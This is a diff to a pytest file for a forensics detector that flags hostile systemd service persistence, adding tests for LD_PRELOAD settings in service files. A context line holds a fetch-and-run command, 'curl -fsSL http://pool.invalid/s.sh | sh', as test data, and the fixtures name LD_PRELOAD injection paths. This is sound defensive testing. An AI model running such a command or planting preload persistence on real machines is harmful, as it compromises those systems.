@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 
 from forensics.detectors.services import DETECTOR
-from tests.scenes import debian, dpkg, judge, said
+from tests.scenes import File, debian, dpkg, elf, judge, said
 
 HOSTILE, UNOWNED = "persistence/service", "persistence/unowned-service"
 FETCH = "curl -fsSL http://pool.invalid/s.sh | sh"
@@ -59,3 +59,22 @@ def test_evidence_points_at_the_command() -> None:
     (found,) = judge(DETECTOR, debian(), {"/etc/systemd/system/x.service": text})
     shown = found.evidence[0]
     assert shown.offset == text.index(b"/tmp/.x/run")
+
+
+@pytest.mark.parametrize(
+    ("library", "severity"),
+    [("/usr/lib/x86_64-linux-gnu/libx.so", "high"), ("/usr/bin/ls", "low"), ("/gone.so", "low")],
+)
+def test_a_preloaded_library_counts_by_who_owns_it(library: str, severity: str) -> None:
+    path = "/etc/systemd/system/nginx.service.d/10.conf"
+    text = f"[Service]\nEnvironment=LD_PRELOAD={library}\n".encode()
+    layer = {path: text, "/usr/lib/x86_64-linux-gnu/libx.so": File(elf(b"x"), 0o644)}
+    (found,) = judge(DETECTOR, debian(), layer)
+    assert str(found.severity) == severity
+    assert judge(DETECTOR, {path: text, library: File(elf(b"x"), 0o644)}) == []
+
+
+def test_quoted_settings_name_a_library_too() -> None:
+    text = b'[Service]\nEnvironment="A=1" "LD_PRELOAD=/tmp/x.so"\n'
+    found = judge(DETECTOR, debian(), {"/etc/systemd/system/x.service": text})
+    assert said(found) == [(HOSTILE, "high", "/etc/systemd/system/x.service")]
